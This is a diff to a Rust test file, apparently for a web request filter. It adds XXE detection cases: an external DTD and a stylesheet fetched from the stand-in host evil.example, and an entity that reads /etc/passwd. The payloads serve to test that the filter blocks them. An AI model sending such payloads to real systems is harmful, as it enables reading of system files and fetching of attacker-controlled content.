@@ -489,6 +489,13 @@ fn query_urls_to_other_sites_block() {
 
 #[test]
 fn xxe_in_a_doctype_is_seen() {
+    let xml = |body: &'static str| typed("application/xml", body);
+    blocks(
+        xml(r#"<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/e.dtd"><r/>"#),
+        Class::Generic,
+    );
+    passes(xml(r#"<?xml version="1.0"?><!DOCTYPE note SYSTEM "note.dtd"><note><to>Tove</to></note>"#));
+    blocks(xml(r#"<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>"#), Class::Sqli);
     let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
     blocks(typed("application/xml", xxe), Class::Xss);
 }
